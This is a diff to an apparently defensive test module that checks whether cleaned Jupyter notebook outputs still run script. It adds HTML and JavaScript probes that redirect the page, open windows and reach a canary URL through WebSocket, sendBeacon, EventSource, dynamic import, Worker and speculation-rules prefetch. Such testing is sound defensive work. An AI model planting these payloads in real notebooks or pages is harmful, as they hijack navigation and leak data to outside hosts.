@@ -7,6 +7,7 @@ Rule 1: a probe that nothing lets fire proves nothing: the twin run, with output
 cleans, must see those of `MUST_FIRE_UNPROTECTED`.
 """
 
+# ruff: noqa: E501 (a probe is easier to read uncut)
 from __future__ import annotations
 
 import threading
@@ -101,6 +102,22 @@ PROBES: dict[str, str] = {
         "f'<form action=\"{CANARY}/form\"><button>press me</button></form>')"
     ),
     "clobber": 'html(\'<img name="getElementById"><form id="main"><input name="querySelector"></form>\')',
+    "navigate": "html(f'<script>location = \"{CANARY}/navigate\"</script>')",
+    "navigate-top": "html(f'<script>top.location = \"{CANARY}/navigate-top\"</script>')",
+    "open": (
+        "html(f'<script>open(\"{CANARY}/open\"); '"
+        'f\'let a = document.createElement("a"); a.href = "{CANARY}/anchor"; \''
+        "'a.target = \"_blank\"; document.body.append(a); a.click()</script>')"
+    ),
+    "speculation": (
+        'html(f\'<script type=speculationrules>{{"prefetch": [{{"urls": \''
+        "f'[\"{CANARY}/speculation\"]}}]}}</script>')"
+    ),
+    "sockets": (
+        'html(f\'<script>new WebSocket("{CANARY}/socket".replace("http", "ws")); \''
+        'f\'navigator.sendBeacon("{CANARY}/beacon"); new EventSource("{CANARY}/events"); \''
+        'f\'import("{CANARY}/import.js"); new Worker("{CANARY}/worker.js")</script>\')'
+    ),
     "isolated": "html(f'<script>{js(\"isolated\")}</script>', isolated=True)",
     "isolated-by-type": (
         "show('text/html', f'<script>{js(\"isolated-by-type\")}</script>', "
@@ -208,13 +225,18 @@ PROBES: dict[str, str] = {
     ),
 }
 
+# Unprotected, these take the page away, and what else happened in it could not be seen.
+DESTRUCTIVE = frozenset({"meta-refresh", "base", "navigate", "navigate-top", "form"})
+
 # With outputs that nobody cleans these fire in JupyterLab: measured, and asserted by the twin.
 MUST_FIRE_UNPROTECTED = frozenset(
-    "script onerror isolated javascript markdown-onerror widget-html svg-onload trusted-metadata "
-    "update-other javascript-link".split()
+    "script onerror details iframe-srcdoc iframe-javascript isolated isolated-by-type "
+    "trusted-metadata javascript javascript-text markdown-onerror update-other page-payload "
+    "widget-html widget-late widget-output".split()
 )
 MUST_BE_REQUESTED_UNPROTECTED = frozenset(
-    {"/image", "/css-rule", "/markdown-image", "/css-attribute"}
+    "/image /srcset /css-rule /css-import /css-attribute /markdown-image /object /link /preload "
+    "/svg-image /widget-image /beacon /socket /import.js".split()
 )
 
 CLICK_ALL = """() => {
@@ -228,9 +250,10 @@ CLICK_ALL = """() => {
 }"""
 
 
-def attack(canary_url: str) -> list[str]:
+def attack(canary_url: str, *, without: frozenset[str] = frozenset()) -> list[str]:
     """The cells of the attack, the preparing one first."""
-    return [PREPARE.format(canary=canary_url, script=SCRIPT), *PROBES.values()]
+    probes = [cell for name, cell in PROBES.items() if name not in without]
+    return [PREPARE.format(canary=canary_url, script=SCRIPT), *probes]
 
 
 class CanaryServer:
